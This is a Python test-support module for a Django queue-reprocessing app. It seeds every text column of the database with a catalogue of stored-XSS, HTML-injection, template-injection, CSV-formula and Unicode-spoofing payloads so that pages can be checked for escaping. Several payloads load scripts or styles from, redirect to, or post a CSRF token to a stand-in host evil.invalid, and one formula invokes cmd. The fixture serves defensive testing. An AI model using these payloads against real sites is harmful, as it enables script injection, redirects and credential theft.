"""Texts that would run, frame, redirect or mislead if a page took them for markup, and every column that has a text.

Each that runs says so in `window.__pwned`. None holds a NUL, a lone surrogate or a line break: what Postgres keeps and
what a page folds is tested elsewhere.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final

from django.apps import apps
from django.db import DatabaseError, connection, models, transaction

from reprocessing.domain.message.envelope import Attribute, pack_attributes

_RUN: Final = "window.__pwned=1"

#: By what they try.
TEXTS: Final = {
    "script": f"<script>{_RUN}</script>",
    "script in capitals": f"<SCRIPT>{_RUN}</SCRIPT>",
    "script from elsewhere": '<script src="//evil.invalid/x.js"></script>',
    "script as a module": '<script type="module" src="http://evil.invalid/m.js"></script>',
    "script, cut open": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script, unclosed": f"<script>{_RUN}//",
    "end of a script": f"</script><script>{_RUN}</script>",
    "end of JSON in a script": f'{{"a":"</script><script>{_RUN}</script>"}}',
    "comment in a script": f"<!--<script>--><script>{_RUN}</script>",
    "image": f"<img src=x onerror={_RUN}>",
    "image without spaces": f"<img/src/onerror={_RUN}>",
    "image in backticks": f"<img src=`x` onerror=`{_RUN}`>",
    "image from elsewhere": "<img src=http://evil.invalid/leak.png>",
    "svg": f"<svg onload={_RUN}>",
    "svg script": f"<svg><script>{_RUN}</script></svg>",
    "svg animation": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=window.__pwned=1>#x"/></svg>',
    "svg foreign object": f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>",
    "mathml": f'<math><mtext><table><mglyph><style><img src=x onerror="{_RUN}"></style></mglyph></table></math>',
    "mathml link": '<math href="javascript:window.__pwned=1">CLICK</math>',
    "link": '<a href="javascript:window.__pwned=1">CLICK</a>',
    "link by entity": '<a href="java&#115;cript:window.__pwned=1">CLICK</a>',
    "an address": "javascript:window.__pwned=1",
    "an address of data": f"data:text/html,<script>{_RUN}</script>",
    "an address of elsewhere": "//evil.invalid/%2e%2e?x=1#y",
    "frame": "<iframe src=javascript:window.__pwned=1></iframe>",
    "frame with a document": f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "object": "<object data=javascript:window.__pwned=1></object>",
    "embed": "<embed src=javascript:window.__pwned=1>",
    "base": '<base href="http://evil.invalid/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
    "style": "<style>@import 'http://evil.invalid/x.css';*{display:none}</style>",
    "style sheet": '<link rel="stylesheet" href="http://evil.invalid/x.css">',
    "form": '<form action="http://evil.invalid/"><input name="csrfmiddlewaretoken"><button autofocus>Go on',
    "form of another's button": '<button form="changelist-form" formaction="//evil.invalid/">Go on</button>',
    "details": f"<details open ontoggle={_RUN}>",
    "focus": f"<input autofocus onfocus={_RUN}>",
    "marquee": f"<marquee onstart={_RUN}>",
    "video": f"<video><source onerror={_RUN}></video>",
    "body": f"<body onload={_RUN}>",
    "template element": f"<template shadowrootmode=open><img src=x onerror={_RUN}></template>",
    "out of double quotes": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}',
    "out of single quotes": f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}",
    "out of a tag": f'"><img src=x onerror={_RUN}>',
    "out of a textarea": f"</textarea><img src=x onerror={_RUN}>",
    "out of a title": f"</title><img src=x onerror={_RUN}>",
    "out of pre": f"</pre></td></table></form><img src=x onerror={_RUN}>",
    "out of a comment": f"--><img src=x onerror={_RUN}><!--",
    "out of a string": f"';{_RUN};//\\';{_RUN};//",
    "out of a template string": f"`;${{{_RUN}}}",
    "htmx": f'<div hx-get="//evil.invalid/" hx-trigger="load" hx-on:htmx:load="{_RUN}">',
    "htmx as data": f'<div data-hx-get="/admin/logout/" data-hx-trigger="load" data-hx-on--load="{_RUN}">',
    "Django's templates": "{{ request.user.password }}{% debug %}{% load static %}",
    "other templates": f"${{{_RUN}}}#{{{_RUN}}}<%= {_RUN} %>[[${{{_RUN}}}]]{{{{constructor.constructor('{_RUN}')()}}}}",
    "a formula": '=HYPERLINK("http://evil.invalid/","x")',
    "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "turned around": "\u202egnp.exe\u2066 \u200bzero\u2069",
    "half a tag": f"<img src=x onerror={_RUN} x=",
    "wide quotes": f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    "an entity": f"&lt;script&gt;{_RUN}&lt;/script&gt;&#x3c;script&#x3e;",
    "a private character": "\ue000\ufdd0\x07\x1b[31mred\x1b[0m",
}  # fmt: skip

#: All in one text; and one that fits where there is little room.
TOGETHER: Final = " ".join(TEXTS.values())
SHORT: Final = f"\u202e'\"></title></a><img src=x onerror={_RUN}><script>{_RUN}</script>"

#: What a program reads before anybody else does: texts that were examined when they were given, or that it counts by.
_EXAMINED: Final = {
    "DeadLetterQueue": {"url", "arn", "region", "role_arn", "ordering_key", "sequence", "idempotency_key",
                        "parking_url", "message_type", "tenant"},
    "Target": {"url", "arn", "region", "role_arn", "answers", "content_type", "secret"},
    "Source": {"arn"},
    "HealthCheck": {"region"},
    "Incident": {"kind"},
    "DiscoveryScope": {"region", "role_arn", "marker"},
    "ManagedObject": {"kind", "name"},  # the name of another row, whose page has a badge then
    "DiscoveredQueue": {"arn", "url"},
    "DiscoveredSource": {"dlq_arn", "source_arn", "through"},
    **{name: {"state", "reason", "what"} for name in ("Tally", "TallyDelta", "Flow", "FlowDelta")},
}  # fmt: skip


@dataclass(frozen=True, slots=True)
class Place:
    """A column that holds what somebody wrote; where it takes part in a key, each row needs a text of its own."""

    table: str
    column: str
    most: int | None
    own: bool


def places() -> Iterator[Place]:
    """Every column of ours that holds a text, whoever wrote it."""
    for model in apps.get_app_config("reprocessing").get_models():
        examined = _EXAMINED.get(model.__name__, set())
        for field in () if model._meta.proxy else model._meta.concrete_fields:
            if isinstance(field, models.CharField | models.TextField) and not field.choices:
                keys = [name for one in model._meta.total_unique_constraints for name in one.fields]
                own = field.unique or field.name in keys or field.primary_key
                if field.name not in examined:
                    yield Place(model._meta.db_table, str(field.column), field.max_length, own)


def write_everywhere(text: str, short: str) -> int:
    """Have every text of every row say this, also what is written once; how many texts there are.

    Args:
        text: what they say.
        short: what those say that have no room for that.
    """
    written = 0
    with transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("SET LOCAL session_replication_role = replica")  # no trigger and no foreign key is asked
        for place in places():
            tried = (_update(one, place, only) for one in (text, short) for only in ("", f"WHERE {place.column} <> ''"))
            written += next(n for n in tried if n is not None)
        body = json.dumps({text: [text, {"task": text, "kwargs": {text: text}}]}).encode()
        attributes = pack_attributes(
            {text: Attribute("String", text), "bytes": Attribute(f"Binary.{short}", text.encode())}
        )
        system = json.dumps({"SenderId": text, text: text})
        cursor.execute("UPDATE redrive_payload SET body = %s, attributes = %s, system = %s", [body, attributes, system])
        told = [json.dumps({text: text}), json.dumps([text])]
        cursor.execute("UPDATE redrive_audit_entry SET before = %s, after = %s", told)
        cursor.execute("UPDATE redrive_rule SET conditions = %s", [json.dumps([f"tenant equals {short}"])])
    return written


def _update(text: str, place: Place, only: str) -> int | None:
    """How many rows say it now; None: they cannot, for a reason that is the schema's."""
    if place.most and len(text) > place.most - 10:
        return None
    said = "%s || row_number::text" if place.own else "%s"
    numbered = f'SELECT ctid AS place, row_number() OVER () FROM "{place.table}" {only}'
    try:
        with transaction.atomic(), connection.cursor() as cursor:
            cursor.execute(
                f'UPDATE "{place.table}" SET "{place.column}" = {said} FROM ({numbered}) n WHERE ctid = n.place', [text]
            )
            return int(cursor.rowcount)
    except DatabaseError:
        return None
